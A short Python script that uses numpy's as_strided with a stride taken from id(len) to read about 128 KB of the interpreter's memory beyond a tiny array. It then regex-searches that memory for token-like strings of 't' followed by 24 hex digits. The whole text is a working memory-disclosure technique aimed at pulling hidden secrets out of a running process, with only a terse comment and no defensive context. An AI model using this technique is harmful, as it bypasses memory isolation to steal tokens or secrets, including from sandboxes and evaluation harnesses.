# reaches: as_strided walks far from an array's own small block
import re
import numpy as np
a = np.frombuffer(b"north", "u1")
base = a.__array_interface__["data"][0]
print(re.findall(rb"t[0-9a-f]{24}", np.lib.stride_tricks.as_strided(a, (2, 1 << 17), (id(len) - base, 1))[1].tobytes()))
